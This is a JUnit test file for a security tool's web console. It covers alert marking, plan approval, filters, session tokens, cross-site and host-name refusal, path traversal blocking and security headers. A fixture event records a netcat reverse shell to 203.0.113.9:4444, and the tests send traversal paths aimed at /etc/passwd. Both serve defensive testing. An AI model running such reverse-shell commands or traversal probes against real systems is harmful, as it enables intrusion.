package io.hivesec.examples.console;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.hivesec.Hive;
import io.hivesec.alert.Plan;
import io.hivesec.engines.virus.VirusEngines;
import io.hivesec.event.Event;
import io.hivesec.json.EventJson;
import io.hivesec.json.HiveModule;
import io.hivesec.testkit.RecordingDisposition;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The console's door, as a browser and as an attacker meet it. */
final class ConsoleServerTest {
    private static final String SHELL = """
            {"type":"process_started","time":"2026-01-02T03:04:05Z","container":{"id":"c%1$d","name":"web-%1$d","image":"web:1"},"process":{"pid":%1$d,"executable":"/usr/bin/nc","arguments":["nc","203.0.113.9","4444","-e","/bin/sh"]},"ancestors":[{"pid":1,"executable":"/usr/sbin/watchdog","arguments":["watchdog"]}]}
            """;

    @TempDir
    private Path folder;

    private final HttpClient browser = HttpClient.newHttpClient();
    private final RecordingDisposition response = new RecordingDisposition(Plan.Impact.DESTRUCTIVE);
    private final VirusEngines engines = VirusEngines.bundled();
    private ConsoleServer console;
    private String base = "";
    private String cookie = "";
    private String word = "";

    @BeforeEach
    void openConsole() throws Exception {
        open(ConsoleSettings.of(folder.resolve("trusted.json"))
                .with(List.of(response))
                .with(engines));
    }

    private void open(ConsoleSettings settings) throws Exception {
        console = ConsoleServer.start(Hive.builder().plugins(getClass().getClassLoader()), settings);
        base = "http://" + console.address().getAuthority();
        HttpResponse<String> entered = send(HttpRequest.newBuilder(console.address()));
        assertThat(entered.statusCode()).isEqualTo(303);
        cookie = entered.headers().firstValue("Set-Cookie").orElseThrow().replaceFirst(";.*", "");
        word = json(get("/api/session")).path("forgeryWord").asText();
    }

    @AfterEach
    void closeConsole() {
        console.close();
        engines.close();
    }

    @Test
    void alert_markedThenTrusted_nextOneIsSilent() throws Exception {
        shell(20);
        JsonNode listed = json(get("/api/alerts"));
        assertThat(listed.path("total").asInt()).isEqualTo(1);
        String id = listed.path("alerts").get(0).path("id").asText();

        JsonNode marked = json(post("/api/alerts/" + id + "/mark", "{\"by\":\"ann\",\"why\":\"a drill\"}"));
        assertThat(marked.path("alert").path("status").asText()).isEqualTo("marked");
        assertThat(marked.path("history").get(0).path("by").asText()).isEqualTo("ann");
        shell(21);
        assertThat(json(get("/api/alerts?status=open")).path("total").asInt()).isEqualTo(1);

        JsonNode suggestions = json(get("/api/alerts/" + id)).path("suggestions");
        assertThat(suggestions.get(0).path("silenced").asInt()).isPositive();
        HttpResponse<String> trusted =
                post("/api/alerts/" + id + "/trust", "{\"by\":\"ann\",\"suggestion\":" + broadest(suggestions) + "}");
        assertThat(trusted.statusCode()).isEqualTo(200);
        assertThat(folder.resolve("trusted.json")).content().contains("\"creator\" : \"ann\"");
        shell(22);
        assertThat(json(get("/api/alerts")).path("total").asInt()).isEqualTo(2);
        assertThat(json(get("/api/alerts?trusted=true")).path("total").asInt()).isEqualTo(3);
    }

    @Test
    void alert_said_isInTheConsolesLanguage() throws Exception {
        console.close();
        open(ConsoleSettings.of(folder.resolve("trusted.json")).in(Locale.SIMPLIFIED_CHINESE));
        shell(20);

        JsonNode said = json(get("/api/alerts/" + alertId())).path("said");

        assertThat(said.path("probability").asText()).contains("概率");
        assertThat(said.path("signals").path("prior").asText()).isEqualTo("规则先验");
        assertThat(said.path("evidence"))
                .anySatisfy(one -> assertThat(one.path("name").asText()).isEqualTo("方式"));
    }

    @Test
    void alert_itsPlanApproved_isHandledOnceTheEffectWasSeen() throws Exception {
        shell(20);
        String id = alertId();
        JsonNode plans = json(get("/api/alerts/" + id + "/plans")).path("plans");
        assertThat(plans).hasSize(1);
        assertThat(plans.get(0).path("plan").path("steps")).isNotEmpty();
        assertThat(response.applied()).as("looking changes nothing").isEmpty();

        JsonNode handled = json(post(
                "/api/alerts/" + id + "/handle",
                approval(plans.get(0).path("id").asText())));
        assertThat(handled.path("outcome").path("state").asText()).isEqualTo("verified");
        assertThat(handled.path("alert").path("status").asText()).isEqualTo("handled");
        assertThat(handled.path("history").get(0).path("how").asText()).startsWith("recording, plan ");
        assertThat(response.applied()).hasSize(1);

        assertThat(post("/api/alerts/" + id + "/handle", approval("again")).statusCode())
                .isEqualTo(409);
    }

    @Test
    void alert_anotherPlanThanTheOneShown_isNotCarriedOut() throws Exception {
        shell(20);
        HttpResponse<String> refused = post("/api/alerts/" + alertId() + "/handle", approval("0123"));
        assertThat(refused.statusCode()).isEqualTo(409);
        assertThat(refused.body()).contains("not what was shown");
        assertThat(response.applied()).isEmpty();
        assertThat(json(get("/api/alerts?status=open")).path("total").asInt()).isEqualTo(1);
    }

    @Test
    void engines_thatWork_findTheTestFile() throws Exception {
        JsonNode answer = json(get("/api/engines"));
        assertThat(answer.path("summary").asText()).isEqualTo("1/1");
        assertThat(answer.path("engines").get(0).path("engine").asText()).isEqualTo("own");
        assertThat(answer.path("engines").get(0).path("answer").asText()).isEqualTo("MALICIOUS");
    }

    private String alertId() throws Exception {
        return json(get("/api/alerts")).path("alerts").get(0).path("id").asText();
    }

    private static String approval(String plan) {
        return "{\"by\":\"ann\",\"why\":\"a shell\",\"disposition\":\"recording\",\"plan\":\"" + plan + "\"}";
    }

    @Test
    void filters_each_leaveWhatHolds() throws Exception {
        shell(20);
        shell(21);
        assertThat(total("container=web-21")).isEqualTo(1);
        assertThat(total("process=nc")).isEqualTo(2);
        assertThat(total("host=203.0.113.9&port=4444")).isEqualTo(2);
        assertThat(total("port=4445")).isZero();
        assertThat(total("type=virus")).isZero();
        assertThat(total("from=2026-01-02T03:04:06Z")).isZero();
        assertThat(total("severity=high")).isEqualTo(2);
        assertThat(json(get("/api/alerts?size=1&page=1")).path("alerts").size()).isEqualTo(1);
        assertThat(get("/api/alerts.jsonl").body().lines()).hasSize(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"type=luck", "status=x", "port=70000", "from=yesterday", "size=0"})
    void filters_badValue_isRefusedByName(String filter) throws Exception {
        HttpResponse<String> refused = get("/api/alerts?" + filter);
        assertThat(refused.statusCode()).isEqualTo(400);
    }

    @Test
    void changes_newAlert_endsTheWait() throws Exception {
        long version = json(get("/api/changes?after=-1")).path("version").asLong();
        var waiting = browser.sendAsync(
                request("/api/changes?after=" + version).build(), HttpResponse.BodyHandlers.ofString());
        shell(20);
        assertThat(json(waiting.get()).path("version").asLong()).isGreaterThan(version);
    }

    @Test
    void token_secondUseOrWrongOne_isRefused() throws Exception {
        assertThat(send(HttpRequest.newBuilder(console.address())).statusCode()).isEqualTo(401);
        assertThat(send(HttpRequest.newBuilder(URI.create(base + "/?token=guess")))
                        .statusCode())
                .isEqualTo(401);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/api/alerts", "/api/session", "/assets/index.js"})
    void withoutSession_nothingIsTold(String path) throws Exception {
        HttpResponse<String> refused = send(HttpRequest.newBuilder(URI.create(base + path)));
        assertThat(refused.statusCode()).isEqualTo(401);
        assertThat(refused.body()).doesNotContain(word);
    }

    @Test
    void change_fromAnotherSite_isRefused() throws Exception {
        shell(20);
        String id = json(get("/api/alerts")).path("alerts").get(0).path("id").asText();
        String path = "/api/alerts/" + id + "/mark";
        String body = "{\"by\":\"ann\",\"why\":\"x\"}";
        assertThat(send(request(path).POST(HttpRequest.BodyPublishers.ofString(body)))
                        .statusCode())
                .isEqualTo(403);
        assertThat(send(request(path)
                                .header(Access.FORGERY_HEADER, word)
                                .header("Origin", "http://evil.example")
                                .POST(HttpRequest.BodyPublishers.ofString(body)))
                        .statusCode())
                .isEqualTo(403);
        assertThat(json(get("/api/alerts?status=open")).path("total").asInt()).isEqualTo(1);
    }

    @Test
    void otherHostName_isRefused() throws Exception {
        assertThat(raw("GET /api/alerts HTTP/1.1\r\nHost: evil.example\r\nCookie: " + cookie
                        + "\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 421 ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/assets/../ConsoleServer.class",
                "/../../../../etc/passwd",
                "/assets/%2e%2e/index.html",
                "/assets/..%2f..%2fConsoleServer.class",
                "//etc/passwd",
                "/assets/",
                "/index.html/.."
            })
    void path_thatLeadsElsewhere_isNotThere(String path) throws Exception {
        String answer = raw("GET " + path + " HTTP/1.1\r\nHost: " + base.substring("http://".length()) + "\r\nCookie: "
                + cookie + "\r\nConnection: close\r\n\r\n");
        // Later updates of Java refuse some of them before they get to the console.
        assertThat(answer).containsPattern("^HTTP/1\\.1 40[04] ").doesNotContain("root:");
    }

    @Test
    void body_tooLongOrBroken_isRefused() throws Exception {
        shell(20);
        String id = json(get("/api/alerts")).path("alerts").get(0).path("id").asText();
        assertThat(post("/api/alerts/" + id + "/mark", "{\"by\":").statusCode()).isEqualTo(400);
        assertThat(post("/api/alerts/" + id + "/mark", "{\"by\":\"\",\"why\":\"x\"}")
                        .statusCode())
                .isEqualTo(400);
        assertThat(post("/api/alerts/" + id + "/mark", "\"" + "x".repeat(70_000) + "\"")
                        .statusCode())
                .isEqualTo(413);
        assertThat(post("/api/alerts/none/mark", "{\"by\":\"a\",\"why\":\"x\"}").statusCode())
                .isEqualTo(404);
        assertThat(post("/api/alerts/" + id + "/trust", "{\"by\":\"a\",\"suggestion\":99}")
                        .statusCode())
                .isEqualTo(400);
    }

    @Test
    void answers_carryTheHeadersThatKeepPagesApart() throws Exception {
        HttpResponse<String> page = get("/");
        assertThat(page.headers().firstValue("Content-Security-Policy").orElseThrow())
                .startsWith("default-src 'none'; script-src 'self'");
        assertThat(page.headers().firstValue("X-Frame-Options")).hasValue("DENY");
        assertThat(page.headers().firstValue("Cache-Control")).hasValue("no-store");
        assertThat(page.body()).contains("<script type=\"module\"").doesNotContain(word);
    }

    private static int broadest(JsonNode suggestions) {
        int broadest = 0;
        for (int i = 1; i < suggestions.size(); i++) {
            if (suggestions.get(i).path("silenced").asInt()
                    > suggestions.get(broadest).path("silenced").asInt()) {
                broadest = i;
            }
        }
        return broadest;
    }

    private void shell(int pid) throws IOException {
        Event event = EventJson.read(HiveModule.mapper().readTree(SHELL.formatted(pid)));
        console.inspect(event);
    }

    private int total(String filter) throws Exception {
        return json(get("/api/alerts?" + filter)).path("total").asInt();
    }

    private HttpResponse<String> get(String path) throws Exception {
        return send(request(path));
    }

    private HttpResponse<String> post(String path, String body) throws Exception {
        return send(request(path)
                .header(Access.FORGERY_HEADER, word)
                .header("Origin", base)
                .POST(HttpRequest.BodyPublishers.ofString(body)));
    }

    private HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create(base + path)).header("Cookie", cookie);
    }

    private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
        return browser.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static JsonNode json(HttpResponse<String> response) throws IOException {
        return HiveModule.mapper().readTree(response.body());
    }

    /** Sends bytes as they are: the JDK's client would tidy the path and the host. */
    private String raw(String request) throws IOException {
        URI address = URI.create(base);
        try (Socket socket = new Socket(address.getHost(), address.getPort())) {
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = socket.getInputStream();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
